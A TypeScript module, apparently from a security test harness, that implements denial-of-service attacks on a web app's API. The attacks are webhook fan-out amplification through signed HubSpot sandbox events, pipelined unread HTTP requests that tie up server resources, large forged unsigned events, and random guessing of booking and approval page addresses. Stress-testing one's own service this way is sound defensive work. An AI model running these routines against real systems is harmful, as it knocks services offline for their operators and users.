import { createHmac, randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attacker, Prepared } from './attack.ts';

const fanOutWebhooks = 100;
const eventsPerRequest = 200;

interface Sandbox {
  account: string;
  eventsUrl: string;
  signingSecret: string;
}

/** Connects HubSpot with a test key, as the owner of an account does. */
async function connectSandbox({ client }: Attacker): Promise<Sandbox> {
  const connected = await client.send('POST', '/api/v1/integrations/hubspot/connect');
  let address: string | undefined = JSON.parse(connected.text).data.authUrl;
  while (address) {
    const { pathname, search } = new URL(address);
    address = (await client.send('GET', pathname + search)).headers.location;
  }
  const { integrations } = await client.get<{ integrations: { id: string; sandbox: Sandbox }[] }>(
    '/api/v1/integrations',
  );
  return integrations.find(({ id }) => id === 'hubspot')!.sandbox;
}

/** Requests that are signed for a sandbox, each with many events for many webhooks. */
export async function fanOutOfSandboxEvents(attacker: Attacker): Promise<Prepared> {
  const { client, hangingUrl } = attacker;
  const sandbox = await connectSandbox(attacker);
  for (let n = 0; n < fanOutWebhooks; n++) {
    const webhook = { event: 'contact_created', url: `${hangingUrl.replace('/hang', '/')}${n}` };
    await client.send('POST', '/api/v1/integrations/hubspot/webhooks', webhook);
  }
  const { pathname } = new URL(sandbox.eventsUrl);
  let eventId = 0;
  return {
    repeat() {
      const at = Date.now();
      const events = Array.from({ length: eventsPerRequest }, () => ({
        eventId: ++eventId,
        subscriptionId: 12,
        portalId: Number(sandbox.account),
        appId: 7,
        occurredAt: at,
        attemptNumber: 0,
        subscriptionType: 'contact.creation',
        objectId: eventId,
        changeFlag: 'NEW',
        changeSource: 'CRM',
      }));
      const signed = `POST${sandbox.eventsUrl}${JSON.stringify(events)}${at}`;
      const signature = createHmac('sha256', sandbox.signingSecret).update(signed).digest('base64');
      return client.send('POST', pathname, events, {
        'x-hubspot-signature-v3': signature,
        'x-hubspot-request-timestamp': String(at),
      });
    },
  };
}

const pipelined = 1_000;
const unreadMs = 3_000;

/** Without a key: requests for the largest fixed file one after the other, whose answers are not read. */
export async function pipelineUnreadScripts({ api }: Attacker): Promise<Prepared> {
  const { hostname, port } = new URL(api);
  const requests = `GET /docs/scalar.js HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`.repeat(pipelined);
  return {
    async repeat() {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      socket.pause();
      socket.write(requests);
      await sleep(unreadMs);
      socket.destroy();
    },
  };
}

/** Events of a provider that nobody signed, as large as they may be. */
export async function forgeEvents({ client }: Attacker): Promise<Prepared> {
  const events = Array.from({ length: 1_000 }, (_, index) => ({ eventId: index, text: 'x'.repeat(900) }));
  const headers = { 'x-hubspot-signature-v3': 'A'.repeat(44), 'x-hubspot-request-timestamp': String(Date.now()) };
  return { repeat: () => client.send('POST', '/api/v1/integrations/hubspot/events', events, headers) };
}

/** Pages of bookings and of approvals, whose addresses are guessed. */
export async function guessPages({ client }: Attacker): Promise<Prepared> {
  return {
    repeat: (caller) => client.send('GET', `/${caller % 2 ? 'a' : 'b'}/${randomBytes(32).toString('base64url')}`),
  };
}
